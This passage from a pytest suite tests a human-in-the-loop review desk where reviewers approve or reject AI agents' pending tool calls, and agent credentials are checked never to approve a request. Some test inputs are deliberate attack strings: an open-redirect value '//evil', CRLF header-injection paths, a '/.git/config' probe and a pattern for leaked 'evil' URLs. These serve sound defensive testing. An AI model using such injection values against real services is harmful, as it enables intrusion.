    for entry in entries:
        names = set(re.findall(r"\$\{(\w+)\}", json.dumps(entry)))
        environ = {name: f"https://{name}" if name.endswith("_URL") else name
                   for name in names} | {"HITL_WEBHOOK_SECRET": WHSEC}
        values = hitl.checked(tmp_path, "notify", "notify", entry)
        channel = hitl.Channel(None, values, environ)
        assert not hitl.writes_secret(entry)
        sent = json.dumps([channel.filled(values[key] or {}, fields)
                           for key in ("body", "command", "headers")])
        assert not re.search(r"canary|@every|<!|https:..evil|\$\{|\{\w+\}", sent)
        assert "https://desk.example/review/r-1" in sent or not values["body"]


# ---- e-mail: a tiny SMTP server ----

class Mailbox(Wire):
    """An SMTP server, with TLS from the start or STARTTLS; `refuse` answers
    RCPT."""

    def __init__(self, context, tls, refuse) -> None:
        self.context, self.tls, self.refuse, self.seen = context, tls, refuse, []
        super().__init__(None)

    def secured(self, sock):
        return self.context.wrap_socket(sock, server_side=True)

    def finish_request(self, sock, address) -> None:
        with contextlib.closing(self.secured(sock) if self.tls else sock) as sock:
            self.talk(sock, b"220 hello\r\n")

    def talk(self, sock, reply) -> None:
        with sock.makefile("rwb", buffering=0) as file:
            file.write(reply)
            while line := file.readline():
                self.seen.append(line.strip().decode().upper())
                verb = line[:4].upper()
                file.write({b"EHLO": b"250-me\r\n250-STARTTLS\r\n250 AUTH PLAIN\r\n",
                            b"DATA": b"354 go on\r\n", b"AUTH": b"235 ok\r\n",
                            b"RCPT": self.refuse + b"\r\n", b"QUIT": b"221 bye\r\n",
                            b"STAR": b"220 go on\r\n"}.get(verb, b"250 ok\r\n"))
                if verb == b"DATA":
                    lines = b"".join(iter(file.readline, b".\r\n"))
                    self.got.append(message_from_bytes(lines))
                    file.write(b"250 taken\r\n")
                if verb == b"STAR":
                    break
        if line:
            with contextlib.closing(self.secured(sock)) as sock:
                self.talk(sock, b"")


@pytest.mark.parametrize("scheme, refuse, told, tries", [
    ("starttls", b"250 ok", "250", 1), ("tls", b"250 ok", "250", 1),
    ("plain", b"250 ok", "250", 1),
    ("plain", b"550 no", "550 SMTPRecipientsRefused", 1),
    ("plain", b"450 later", "450 SMTPRecipientsRefused", 5),
    ("untrusted", b"250 ok", "SSLCertVerificationError", 5)])
def test_a_mail_is_sent(tell, certificate, monkeypatch, scheme, refuse, told, tries):
    """E-mail goes out over STARTTLS, TLS or on this machine, with login, and
    never to a server whose certificate is not trusted; what the server refuses
    for now is tried again."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    if scheme != "untrusted":
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
    scheme = scheme.replace("untrusted", "starttls")
    with Mailbox(context, scheme == "tls", refuse) as box:
        (_, _, answer), = tell(notify(
            "mail", smtp=f"{scheme}://127.0.0.1:{box.server_port}", login="me",
            password="${P}", from_="hitl@a.example",
            to=["b@a.example", "c@a.example"]), P="pw")
    assert (answer.status, answer.told) == (told, told == "250")
    assert sum(line.startswith("EHLO") for line in box.seen) >= tries
    login = "AUTH PLAIN " + base64.b64encode(b"\0me\0pw").decode().upper()
    for line in (login, "RCPT TO:<B@A.EXAMPLE>", "RCPT TO:<C@A.EXAMPLE>"):
        assert box.seen.count(line) == tries * (told != "SSLCertVerificationError")
    for message in box.got:
        assert message["Auto-Submitted"] == "auto-generated"
        assert message["Subject"].endswith("waits for a decision")
        text = message.get_payload(decode=True).decode()
        assert "https://desk.example/review/r-1" in text and "canary" not in text
    assert len(box.got) == (told == "250")


# ============================ Rights and routes ============================
# One port, eleven routes, two kinds of principals. Tables wherever a table is
# the specification; every answer is read as a client reads it.

REVIEWER = hitl.basic("ana", REVIEWER_TOKEN)
AGENT = f"Bearer {AGENT_TOKEN}"
YES, FORM = {"decision": "approved"}, "application/x-www-form-urlencoded"
LOCAL, CLOSE = "Host: localhost", "Connection: close"
HEALTH, TWO = "GET /healthz HTTP/1.1", "Content-Length: 2"


def desk_ask(desk, method, path, who="", body=None, **fields):
    """One request, headers with _ for - -> status, headers, JSON or text."""
    if body is not None:
        fields = {"Content_Type": "application/json"} | fields
        body = body if isinstance(body, bytes) else json.dumps(body).encode()
    status, headers, text = hitl.Client(desk.url, who).fetch(
        method, path, body, seconds=20, **fields)
    return status, headers, (json.loads(text) if "json" in
                             headers.get_content_type() else text.decode())


def http(line: str, *fields: str, body: bytes = b"") -> bytes:
    """A request as bytes, with nothing added."""
    return "\r\n".join((line, *fields, "", "")).encode("latin-1") + body


def http_post(body, *fields: str) -> bytes:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return http("POST /pending HTTP/1.1", LOCAL, *fields, "Content-Type: "
                "application/json", f"Content-Length: {len(data)}", body=data)


def statuses(data: bytes) -> list[int]:
    """The status of every answer in what came back."""
    return [int(n) for n in re.findall(rb"HTTP/1\.1 (\d{3}) ", data)]


def knock(desk, data: bytes) -> socket.socket:
    """A connection of its own, on which these bytes were sent."""
    sock = socket.create_connection(("127.0.0.1", desk.port), 10)
    sock.sendall(data)
    return sock


def long_poll(desk, request_id: str = "r-1") -> socket.socket:
    sock = knock(desk, http(f"GET /pending/{request_id}?wait=60 HTTP/1.1",
                            LOCAL, CLOSE))
    assert until(lambda: attended(desk, request_id))
    return sock


def attended(desk, request_id: str = "r-1") -> bool:
    return desk_ask(desk, "GET", f"/review/{request_id}", REVIEWER,
                    Accept="application/json")[2]["attended"]


def test_the_story_by_curl(desk):
    """The four fields are 201 with a Location, the same again 200, other
    content 409; approved is 200 once. Arguments are stored as they were sent."""
    status, headers, said = desk_ask(desk, "POST", "/pending", "", four())
    assert (status, headers["Location"]) == (201, "/review/r-1")
    assert (said["status"], said["deadline"]) == ("waiting", None)
    again = four() | {"timestamp": 1, "agent_context": [1]}
    assert desk_ask(desk, "POST", "/pending", "", again)[::2] == (200, said)
    other = desk.post(action_description="other")
    assert (other.status, other.body["request"]) == (409, said)
    done, again = desk.decide("r-1"), desk.decide("r-1")
    assert (done.status, again.status) == (200, 409)
    assert again.body["request"] == done.body
    assert done.body["decided_by"] == "reviewer:ana"
    desk.post("r-2", tool="send", arguments={"z": 1, "a": 2})
    assert desk.rows("SELECT arguments FROM pending_reviews ORDER BY id") == [
        (None,), ('{"z":1,"a":2}',)]


def test_what_is_overdue_is_closed_in_turns(store):
    """The clock closes 200 requests a turn, and the desk then knows that there
    may be more."""
    desk = hitl.Desk(store, hitl.Tokens({}, {}, None), "", hitl.Rules(()))
    for n in range(250):
        store.attempt(put, store, f"r-{n}", "10")
    assert desk.close_overdue() is False
    store.clock.time += 11
    store.tick()
    assert [desk.close_overdue(), store.waiting_count] == [True, 50]
    assert [desk.close_overdue(), store.waiting_count] == [False, 0]


def test_every_refusal_says_the_cure(desk, monkeypatch):
    """A refusal is problem+json with a stable word, its status and the cure
    (the words of the store have their tests there)."""
    desk.post("no")
    desk.decide("no", "rejected")
    r, form, told = REVIEWER, {"Content_Type": FORM}, set()

    def refused(reason, path, who, body, fields=(), cure=None):
        status, headers, said = desk_ask(
            desk, "GET" if body is None else "POST", path, who, body,
            **dict(fields))
        assert (said["reason"], status) == (reason, hitl.REFUSALS[reason])
        assert headers.get_content_type() == "application/problem+json"
        assert said["title"] and said["detail"].endswith(cure or "")
        assert (headers["Retry-After"] is not None) == (status in (429, 503))
        told.add(reason)
    typed = "add -H 'Content-Type: application/json'"
    for name in four():
        refused("missing-field", "/pending", "", {
            k: v for k, v in four().items() if k != name}, (),
            "required fields: " + ", ".join(four()))
    for case in (
            ("bad-request", "/approve/no", r, b"a=\xff", form),
            ("bad-json", "/pending", "", b"[1]"),
            ("bad-field", "/pending", "", four() | {"x": 1}),
            ("bad-digest", "/pending", "", four() | {"digest": "1"}),
            ("bad-decision", "/approve/no", r, {"decision": "yes"}, (),
             'send {"decision": "approved"} or {"decision": "rejected", '
             '"reason": "..."}'),
            ("not-signed-in", "/approve/no", "", YES, (), "sign in as a "
             "reviewer: curl -u reviewer:TOKEN ...; serve printed the token"),
            ("wrong-credentials", "/", "Bearer x", None),
            ("not-your-route", "/pending", r, four()),
            ("cross-site", "/pending", "", {}, {"Origin": "null"}),
            ("no-such-route", "/x", "", None),
            ("unknown", "/pending/x", "", None),
            ("already-decided", "/approve/no", r, YES),
            ("too-large", "/pending", "", b"1" * (1 << 20) + b"1"),
            ("wrong-type", "/pending", "", four(), form, typed),
            ("wrong-type", "/approve/no", r, YES, form, typed),
            ("head-too-large", "/?" + "a" * 17000, "", None),
            ("wrong-host", "/pending/no", "", None, {"Host": "desk.lan:1"},
             'checkpoints.toml: public_url = "http://desk.lan:1"')):
        refused(*case)
    with contextlib.closing(sqlite3.connect(desk.database)) as db:
        db.execute("BEGIN IMMEDIATE")
        refused("storage-failed", "/pending", "", four("kept-out"))
    monkeypatch.setattr(hitl, "MAX_WAITING", 0)
    refused("too-many-waiting", "/pending", "", four("kept-out"))
    assert not desk.rows("SELECT 1 FROM pending_reviews WHERE request_id = "
                         "'kept-out'")
    assert told >= {w for w, status in hitl.REFUSALS.items() if status not in
                    (405, 409, 411, 500, 503)} - {"not-your-request"}


def test_one_shape(desk):
    """Every reply about a request has one shape; a list adds what a reviewer
    needs, a review everything, and no list has contexts."""
    call = {"tool": "delete_users", "arguments": {"b": [1], "a": "é"},
            "agent": "bot", "checkpoint_id": "delete-records"}
    first = desk.post("r-1", **call).body
    waiting, mine = desk.waiting(), {
        "claim": "c", "digest": first["digest"], "outcome": "executed"}
    replies = [first, desk.state("r-1"), desk.decide("r-1").body, *(
        desk_ask(desk, "POST", path, "", mine)[2]
        for path in ("/claim/r-1", "/outcome/r-1"))]
    shape = {"request_id", "status", "outcome", "digest", "deadline",
             "decided_by", "decided_at", "reason", "url"}
    assert [set(reply) for reply in replies] == [shape] * 5
    assert [r["outcome"] for r in replies[2:]] == [None, "running", "executed"]
    past, whole = (desk_ask(desk, "GET", path, REVIEWER,
                            Accept="application/json")[2]
                   for path in ("/history", "/review/r-1"))
    for row in waiting + past["reviewed"]:
        assert set(row) == shape | {"action_description", "large",
                                    "received_at", *call}
        assert row | call == row
    assert whole["agent_context"] == {"task": "clean up"}


def test_lists_come_in_pages(desk, monkeypatch):
    """GET /pending is a page and where to go on; list follows."""
    monkeypatch.setattr(hitl, "LISTED", 2)
    for n in range(5):
        desk.post(f"r-{n}")
    assert [desk_ask(desk, "GET", f"/pending?from={n}", REVIEWER)[2]["next"]
            for n in (0, 2, 3, 4, 9)] == [2, 4, None, None, None]
    listed = json.loads(typed(desk, "list", "--json").out)
    assert [row["request_id"] for row in listed] == [f"r-{n}" for n in range(5)]
    for nonsense in ("x", "1.5"):
        assert desk_ask(desk, "GET", f"/pending?from={nonsense}", REVIEWER)[0] == 400


def test_changes(desk):
    """GET /changes is held until anything changes; an `after` that is not the
    number now, or no wait, is answered at once; nonsense is 400."""
    desk.post()

    def change(query):
        return desk_ask(desk, "GET", f"/changes?{query}", REVIEWER)[2]["change"]
    now = change("")
    assert now == 1 == change("after=0&wait=25") == change("after=9&wait=25")
    assert now == change(f"after={now}&wait=0.1") == change(f"after={now}")
    for query in ("after=x", "after=-1", "after=1&wait=x", "after=1e3", "after=1.5"):
        assert desk_ask(desk, "GET", f"/changes?{query}", REVIEWER)[0] == 400
    poll = in_background(change, f"after={now}&wait=25")
    assert until(lambda: desk.server.waiters)
    began = time.monotonic()
    desk.post("r-2")
    assert poll() == 2 and time.monotonic() - began < 20


def test_only_what_is_listed(desk):
    """A verb that the table of rights does not list is 405 and told what is
    allowed, a path that it does not list 404, whoever asks; a request_id may
    be percent-encoded."""
    desk.post("a:b")
    for path in ("/review/a:b", "/review/%61%3ab"):
        assert desk_ask(desk, "GET", path, REVIEWER)[0] == 200
    for path in {route.path for route in hitl.ROUTES}:
        listed = [r.method for r in hitl.ROUTES if r.path == path]
        for verb in {"HEAD", "PUT", "DELETE", "OPTIONS", "GET", "POST",
                     "TRACE"} - set(listed):
            answer = desk.raw(http(f"{verb} {path} HTTP/1.1", LOCAL, CLOSE))
            assert statuses(answer) == [405], (verb, path)
            assert f"\r\nAllow: {', '.join(listed)}\r\n".encode() in answer
    for path in ("/pending/", "/Pending", "//", "//pending", "/pending;x",
                 "/review/%00", "/review/%zz", "/review/%0d%0aX:y",
                 "/review/" + "a" * 129, "/review/a%2Fb", "/.git/config"):
        for who in ("", REVIEWER):
            assert desk_ask(desk, "GET", path, who)[0] == 404, path


def test_wrong_credentials_are_slow(make_desk):
    """Wrong credentials are answered slowly, but nobody is locked out;
    whoever sends none is asked at once, and a page's script gets no dialog."""
    assert hitl.Limits().slow_seconds >= 1
    desk = make_desk(limits={"slow_seconds": 60})
    with contextlib.ExitStack() as stack:
        wrong = [stack.enter_context(knock(desk, http(
            "GET / HTTP/1.1", LOCAL, "Authorization: Bearer x")))
            for _ in range(20)]
        assert desk_ask(desk, "GET", "/", REVIEWER)[0] == 200
        status, headers, _ = desk_ask(desk, "GET", "/", Sec_Fetch_Dest="empty")
        assert status == 401 and "Basic" in headers["WWW-Authenticate"]
        for sock in wrong:
            sock.setblocking(False)
            with pytest.raises(BlockingIOError):
                sock.recv(1)
    desk = make_desk(limits={"slow_seconds": 0.1})
    for destination, scheme in (("empty", "Script"), ("document", "Basic")):
        start = time.monotonic()
        status, headers, _ = desk_ask(desk, "GET", "/", hitl.basic("a", "no"),
                                      Sec_Fetch_Dest=destination)
        assert status == 401 and time.monotonic() - start >= 0.1
        assert headers["WWW-Authenticate"].split()[0] == scheme


def test_who_decided(make_desk):
    """With the shared token any name is recorded as typed, with the word
    that it is shared; named reviewers have a token each."""
    ana, bo = "a-token-of-anas-own", "b-token-of-bos-own"
    shared, named = make_desk(), make_desk(named={
        "ana": hitl.token_hash(ana), "bo": hitl.token_hash(bo)})
    for desk, name, token, how in (
            (shared, "Zoë Łuk", REVIEWER_TOKEN, "shared token"),
            (named, "bo", bo, "own token"), (named, "", "", None),
            (named, "bo", ana, None), (named, "ana", REVIEWER_TOKEN, None),
            (named, "eve", ana, None), *(
                (shared, name, REVIEWER_TOKEN, None)
                for name in ("a" * 65, "a\u202eb", "a\nb"))):
        desk.post()
        assert desk_ask(desk, "POST", "/approve/r-1", hitl.basic(
            name, token), YES)[0] == (200 if how else 401), name
        assert not how or desk.rows(
            "SELECT decided_by, signed_in FROM pending_reviews") == [
                (f"reviewer:{name}", how)]


def test_the_form_goes_back_to_the_page(desk):
    """The page's buttons post a form and come back to the page (303), wherever
    the form says to go; one that says both words is refused."""
    desk.post()
    form = b"decision=rejected&reason=caf%C3%A9&shown_at=2026-01-01&back=//evil"
    for body, expected in ((b"decision=approved&" + form, 400), (form, 303)):
        status, headers, _ = desk_ask(
            desk, "POST", "/approve/r-1", REVIEWER, body, Content_Type=FORM,
            Accept="text/html")
        assert status == expected and headers["Set-Cookie"] is None
    assert headers["Location"] == "/" and desk.state("r-1")["reason"] == "caf\xe9"


def test_security_headers_on_every_answer(desk):
    """The security headers stand on every answer, with no cookie and no
    CORS on any."""
    for method, path, who, body in (
            ("GET", "/", REVIEWER, None), ("GET", "/", "", None),
            ("GET", "/", "Bearer x", None), ("POST", "/pending", "", four()),
            ("POST", "/pending", "", b"{"), ("GET", "/nowhere", "", None),
            ("GET", "/" + "a" * 20000, "", None),
            ("OPTIONS", "/approve/r-1", "", None)):
        headers = desk_ask(desk, method, path, who, body, Origin=desk.url)[1]
        policy = headers["Content-Security-Policy"]
        assert "unsafe" not in policy and "frame-ancestors 'none'" in policy
        assert [headers[name] for name in (
            "X-Content-Type-Options", "X-Frame-Options", "Referrer-Policy",
            "Cache-Control")] == ["nosniff", "DENY", "same-origin", "no-store"]
        assert not re.search("(?im)^(set-cookie|access-control)", str(headers))


def test_long_polls(desk, monkeypatch):
    """A poll is held up to `wait` seconds, 60 at most; a wait that is no
    number is 400; all who wait are answered when it is decided."""
    assert hitl.MAX_POLL_SECONDS == 60
    desk.post()
    start = time.monotonic()
    with monkeypatch.context() as patch:
        for wait, most in (("0.1", 60), ("999", 0.1)):
            patch.setattr(hitl, "MAX_POLL_SECONDS", most)
            assert desk_ask(desk, "GET", f"/pending/r-1?wait={wait}")[2][
                "status"] == "waiting"
    assert time.monotonic() - start >= 0.2
    for wait in ("nan", "inf", "-1", "%20", "5s", "0x5", "&" * 40):
        assert desk_ask(desk, "GET", f"/pending/r-1?wait={wait}")[0] == 400
    polls = [long_poll(desk) for _ in range(40)]
    desk.decide("r-1", reason="go")
    for sock in polls:
        with sock:
            answer = read_all(sock)
            assert statuses(answer) == [200] and b'"go"' in answer


def test_who_hangs_up_waits_no_more(desk):
    """A parked poll is somebody who waits; once all are closed, nobody."""
    desk.post()
    with long_poll(desk):
        long_poll(desk).close()
        assert not until(lambda: not attended(desk), 0.05)
    assert until(lambda: not attended(desk), hitl.RECENT_SECONDS / 2)


# ---- serve: the process ----

@pytest.fixture
def serve(tmp_path, monkeypatch, capsys):
    """`serve WORDS...` -> exit status and what it said: why it refuses, or
    else that its port is taken."""
    monkeypatch.chdir(tmp_path)

    def run(*words, **environ):
        for name, value in environ.items():
            monkeypatch.setenv(name, value)
        with socket.create_server(("0.0.0.0", 0)) as taken:
            status = hitl.main([
                "serve", "--database", str(tmp_path / "hitl.db"), "--port",
                str(taken.getsockname()[1]), *words])
        return status, capsys.readouterr().err
    return run


WEAK = "whoever started this could read a fresh token"
FREE, POOR = r"cannot listen on .*\n.*--port 0", r"good one.*: [\w-]{43}\n"
OPEN, CLEAR = "agents have no token", "in clear text"
R, SHORT, PROXY = REVIEWER_TOKEN, "fifteen-letters", "--public-url=https://d.example"


@pytest.mark.parametrize("words, agent, reviewer, expected", [
    ("--host 127.0.0.1", "", R, FREE), ("--host localhost", "", R, FREE),
    ("--host 0.0.0.0", "", R, OPEN), ("", "", "", WEAK),
    ("--host 0.0.0.0 " + PROXY, "", R, OPEN),
    ("--host 0.0.0.0 --allow-clear-text", "", R, OPEN),
    *((f"--host {host}", AGENT_TOKEN, R, CLEAR) for host in (
        "0.0.0.0", "::", "0", "192.0.2.1", "host.example")),
    ("--host 0.0.0.0 --public-url=http://d.example", AGENT_TOKEN, R, CLEAR),
    ("--host 0.0.0.0 " + PROXY, AGENT_TOKEN, R, FREE),
    ("--host 0.0.0.0 --allow-clear-text", AGENT_TOKEN, R, FREE),
    ("", AGENT_TOKEN, R, FREE), ("", "", "sixteen-letters-", FREE),
    ("", AGENT_TOKEN, AGENT_TOKEN, POOR), ("", SHORT, R, POOR),
    *(("", "", token, POOR) for token in (
        SHORT, "with a blank in it", "é" * 20, "line\nline\nline\nline")),
    *((f"--public-url={url}", "", R, "--public-url") for url in (
        "desk.example", "https://", "ftp://x", "https://x/a\r\nb:c",
        "https://x/path")), ("--port=70000", "", R, "--port"),
    ("--tls-key k.pem", "", R, 'cannot use tls_certificate "", tls_key ".*k.pem"'),
    ("--tls-certificate none.pem", "", R, "cannot use tls_certificate")])
def test_what_serve_refuses(serve, words, agent, reviewer, expected):
    """Off loopback serve needs an agent token, and https or
    --allow-clear-text; a token under 16 characters, or the same for agent and
    reviewer, is refused and a good one printed; without a terminal it makes
    none."""
    status, said = serve(*words.split(" ") * bool(words),
                         HITL_AGENT_TOKEN=agent, HITL_REVIEWER_TOKEN=reviewer)
    assert status == 2 and re.search(expected, said), said
    assert not (reviewer and reviewer in said)


def test_a_configuration_that_serve_refuses(serve, tmp_path):
    """serve refuses a configuration that everybody can write, and an agent's
    token that is a named reviewer's own."""
    rules = tmp_path / "checkpoints.toml"
    rules.write_text(f'{RULES}\n[[reviewer]]\nname = "ana"\ntoken_sha256 = '
                     f'"{hitl.token_hash(AGENT_TOKEN)}"\n')
    for mode, said in ((0o666, "written by everybody\nhitl: hint: chmod go-w"),
                       (0o664, "have the same token")):
        rules.chmod(mode)
        assert said in serve(HITL_AGENT_TOKEN=AGENT_TOKEN)[1]


def test_what_serve_prints(serve, tmp_path):
    """serve prints the link with its fresh token, absolute paths, the ssh
    line and each change of state, each on its own line; a second one on the
    same database is refused; SIGTERM ends it with 0 and the log's head."""
    rules = tmp_path / "checkpoints.toml"
    rules.write_text(RULES)
    rules.chmod(0o664)
    served = Served(tmp_path, HITL_REVIEWER_TOKEN="", terminal=True,
                    SSH_CONNECTION="198.51.100.1 5000 192.0.2.7 22")
    token = re.fullmatch(r"http://reviewer:([\w-]{43})@127\.0\.0\.1:"
                         f"{served.port}/", served.link)[1]
    assert "another server uses" in serve(HITL_REVIEWER_TOKEN=R)[1]
    rules.write_text(RULES + "\n")
    assert served.said(".* the configuration was edited since .*")
    served.agent().exchange("POST", "/pending", four(), seconds=10)
    assert desk_ask(served, "POST", "/approve/r-1", hitl.basic("ana", token), {
        "decision": "rejected", "reason": "a\nb"})[0] == 200
    assert served.stop() == 0
    assert until(lambda: "stopped" in served.lines[-1])
    with hitl.open_for_reading(tmp_path / "hitl.db") as db:
        head = db.execute("SELECT hash FROM audit_log WHERE sequence = 2")
        last = f"stopped; audit log: 2 rows, head {head.fetchone()[0]}"
    assert [re.sub(r"^\d\d:\d\d:\d\d ", "", line)
            for line in served.lines[-3:]] == [
        f"submitted {four()['action_description']} [r-1] by "
        "agent:unauthenticated\a",
        f"rejected  {four()['action_description']} [r-1] by reviewer:ana",
        last]
    ssh = f"ssh -L {served.port}:127.0.0.1:{served.port} "
    assert [s for s in served.lines if ssh in s and s.endswith("@192.0.2.7")]
    assert set(served.lines) >= {
        f"name reviewer, token {token}", f"configuration {rules}",
        f"database {tmp_path / 'hitl.db'}",
        f"audit log: 0 rows, head {'0' * 64}",
        f"warning: {rules} can be written by its group",
        "agents that read this configuration ask at http://127.0.0.1:8765 "
        "(server_url)", "warning: this desk listens at http://127.0.0.1:"
        f"{served.port}: is that server_url right?"}


def test_a_bell_for_each_new_request(capfd):
    """On a terminal serve rings for what begins to wait, whatever words a
    description has."""
    printer = hitl.Printer("\a")
    printer.write("12:00:00 submitted Delete users [r-1] by agent:a")
    printer.write("12:00:01 approved  Say it was submitted [r-1] by reviewer:ana")
    printer.close()
    assert capfd.readouterr().out.split("\n") == [
        "12:00:00 submitted Delete users [r-1] by agent:a\a",
        "12:00:01 approved  Say it was submitted [r-1] by reviewer:ana", ""]


@pytest.mark.parametrize("closed", [True, False])
def test_lines_that_nobody_reads(tmp_path, closed):
    """A stdout that is closed (`serve | head`), or that nobody drains, costs
    lines, which are counted, not the desk; a given token is not printed."""
    ours, theirs = os.pipe()
    process = start(*HITL, "serve", "--port", "0", "--database",
                    str(tmp_path / "hitl.db"), folder=tmp_path,
                    stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs,
                    HITL_REVIEWER_TOKEN=R)
    os.close(theirs)
    count = 2 if closed else 40             # 1,000 lines wait, and 64 KB
    with contextlib.ExitStack() as stack:
        stack.callback(process.kill)
        file = stack.enter_context(open(ours, "rb", 0))
        head = ""
        while "audit log" not in head:
            head += file.read(4096).decode()
        port = int(re.search(r"127\.0\.0\.1:(\d+)/", head)[1])
        if closed:
            file.close()
        socks = [stack.enter_context(socket.create_connection(
            ("127.0.0.1", port), 20)) for _ in range(50)]
        for name, sock in enumerate(socks):
            sock.sendall(b"".join(
                http_post(four(f"r-{name}-{n}") | {"agent": f"a-{name}"},
                          *[CLOSE] * (n == count - 1)) for n in range(count)))
        for sock in socks:
            assert statuses(read_all(sock)) == [201] * count
        assert hitl.Client(f"http://127.0.0.1:{port}", REVIEWER).fetch(
            "GET", "/", seconds=20)[0] == 200
        assert R not in head
        process.terminate()
        text = "" if closed else file.readall().decode()
        assert process.wait(10) == 0
    lost = sum(int(n) for n in re.findall(
        "(?m)^([0-9]+) lines were lost here$", text))
    assert closed or lost > 0 and text.count(" submitted ") + lost >= 2000


def test_no_getfqdn(make_desk, monkeypatch):
    """The server binds without asking DNS for its own name."""
    for name in ("getfqdn", "gethostbyaddr"):
        monkeypatch.setattr(socket, name, None)
    assert desk_ask(make_desk(), "GET", "/healthz")[0] == 200


# ================================ Promise 5 ================================
# An agent cannot decide: every route times every credential, from ROUTES.

CREDENTIALS = [     # and whose they are, where agents have a token
    ("", "none"), (AGENT, "agent"), (f"BEARER {AGENT_TOKEN}", "agent"),
    (hitl.basic("ana", AGENT_TOKEN), "agent"),
    (hitl.basic("", AGENT_TOKEN), "agent"),
    *((who, "wrong") for who in (
        f"Bearer {REVIEWER_TOKEN}", hitl.basic("ana", "wrong-token-of-nobody"),
        "Bearer wrong-token-of-nobody", hitl.basic("ana", ""),
        f"Bearer {hitl.token_hash(AGENT_TOKEN)}", f"{AGENT}, {REVIEWER}", " ",
        "Basic !!!", "Basic", "Basic YW5h", "Digest a", "Bearer caf\xe9\xff",
        "Basic \xe9\xe9\xe9\xe9", "Basic " + base64.b64encode(
            b"\xff:" + REVIEWER_TOKEN.encode()).decode())),
    (hitl.basic("", REVIEWER_TOKEN), "reviewer"), (REVIEWER, "reviewer")]


@pytest.mark.parametrize("agent_token", [None, AGENT_TOKEN])
def test_promise_5(make_desk, agent_token):
    """Each route belongs to one kind of principal: an agent's credential on
    a reviewer's route is 403, always, and nothing but a reviewer's decides."""
    desk = make_desk(agent_token=agent_token)
    desk.post()                     # "why" keeps it from being withdrawn
    body = four() | YES | {"why": 5}

    def one(route, who):
        path = route.path.replace("{request_id}", "r-1").replace(
            "{number}", "9")
        return desk_ask(desk, route.method, path, who,
                        body if route.method == "POST" else None)[:2]
    for last in (False, True):      # a reviewer's own, when all others failed
        asked = [(route, who, kind, in_background(one, route, who))
                 for who, kind in CREDENTIALS for route in hitl.ROUTES
                 if last == (kind == "reviewer")]
        for route, who, kind, answer in asked:
            status, headers = answer()
            if kind == "agent" and not agent_token:
                kind = "wrong"
            if route.who in ("anyone", kind) or (
                    kind == "none" and route.who == "agent"
                    and not agent_token):
                assert status in (200, 400, 409) or (
                    status == 404 and "lift" in route.path), (route, who)
            elif kind in ("none", "wrong"):
                assert status == 401, (route, who)
                assert headers["WWW-Authenticate"].startswith(
                    "Bearer " if route.who == "agent" else "Basic ")
            else:
                assert status == 403, (route, who)

        def deciders():
            return [actor.partition(":")[0] for actor, in desk.rows(
                "SELECT actor FROM audit_log WHERE event IN "
                "('approved', 'rejected', 'stopped')")]
        assert until(lambda: set(deciders()) == {"reviewer"}) if last else (
            deciders() == [])


def test_each_agent_has_a_credential(make_desk):
    """With [[agent]] agent routes always need one, the row has its name, and
    only the one that asked may read, claim or withdraw."""
    tokens = {name: f"token-of-{name}-which-is-long" for name in ("bot", "cat")}
    desk = make_desk(agents={name: hitl.token_hash(token)
                             for name, token in tokens.items()})
    bot, cat = (f"Bearer {tokens[name]}" for name in ("bot", "cat"))
    assert desk_ask(desk, "POST", "/pending", "", four())[0] == 401
    assert desk_ask(desk, "POST", "/pending", bot, four())[0] == 201
    digest = desk_ask(desk, "POST", "/approve/r-1", REVIEWER, YES)[2]["digest"]
    for method, path, body in (
            ("GET", "/pending/r-1?wait=1", None),
            ("POST", "/claim/r-1", {"digest": digest, "claim": "c"}),
            ("POST", "/withdraw/r-1", {}), ("POST", "/outcome/r-1", {
                "claim": "c", "outcome": "executed"})):
        for who, expected in ((cat, 403), ("", 401), (bot, 200)):
            assert desk_ask(desk, method, path, who, body)[0] == expected, path
    status, _, said = desk_ask(desk, "POST", "/pending", cat, four())
    assert status == 409 and "request" not in said      # nor what bot asked
    assert desk.rows("SELECT asked_by FROM pending_reviews") == [("agent:bot",)]
    for who in (bot, cat):
        for route in hitl.ROUTES:
            if route.who == "reviewer":
                path = re.sub("{.*}", "1", route.path)
                assert desk_ask(desk, route.method, path, who, {}
                                if route.method == "POST" else None)[0] == 403


RULED = """
[[checkpoint]]
checkpoint_id = "delete"
action_pattern = "delete"
description_template = "Delete"
reviewers = ["ana", "bo"]
editable = true

[[checkpoint]]
checkpoint_id = "users"
action_pattern = "delete_it|mail"
arguments = { table = "users" }
description_template = "Users"
reviewers = ["bo"]
remember = false

[[checkpoint]]
checkpoint_id = "remove"
kind = "shell"
action_pattern = "rm"
description_template = "Remove"
reviewers = ["bo"]

[[checkpoint]]
checkpoint_id = "free"
action_pattern = "send"
description_template = "Send"
editable = true
"""
NAMED = {name: f"{name}-has-a-token-of-16" for name in ("ana", "bo", "eve")}


@pytest.fixture
def ruled(make_desk, make_rules):
    """A desk with rules of its own and three reviewers -> the desk, and a
    function that decides as one of them."""
    path = make_rules(RULED + "".join(
        f'[[reviewer]]\nname = "{name}"\ntoken_sha256 = '
        f'"{hitl.token_hash(token)}"\n'
        for name, token in NAMED.items())).path
    read = hitl.load_configuration(path)
    desk = make_desk(named=read.reviewers, rules=read.rules)

    def decide(name, request_id="r-1", **body):
        return desk_ask(desk, "POST", f"/approve/{request_id}",
                        hitl.basic(name, NAMED[name]),
                        {"decision": "approved"} | body)[::2]
    return desk, decide


CALLS = {       # what a call names, and whom the desk lets decide it
    "as matched": ("delete", "delete_it", {"table": "logs"}, "ana bo"),
    "by both that match": ("delete", "delete_it", {"table": "users"}, "bo"),
    "by another than it names": ("free", "delete_it", {"table": "x"}, "ana bo"),
    "by one inside it": ("free", "send", {
        "tool_name": "delete_it", "arguments": {"table": "b"}}, "ana bo"),
    "a large one": ("free", "bash", {"command": "rm " + "a" * 9000}, "bo"),
    "one that the desk does not know": ("new", "grow", {"a": 1}, "ana bo eve"),
    "one without reviewers": ("free", "send", {"table": "x"}, "ana bo eve")}


def test_the_desk_matches_no_more_than_it_must(desk, ruled, monkeypatch):
    """An agent writes what is matched. The desk looks up no path of a call, and
    matches a call only if a rule of its own limits decisions: a small one once,
    as it is asked, so that a page of many matches none; a large one when it is
    shown alone or decided, or if a standing decision could answer it."""
    limited, decide = ruled
    limited.post("r-1", tool="delete_it", arguments={"a": 1}, session="s")
    assert decide("bo", decision="rejected")[0] == 200      # and it stands
    looked_up, matched = [], []
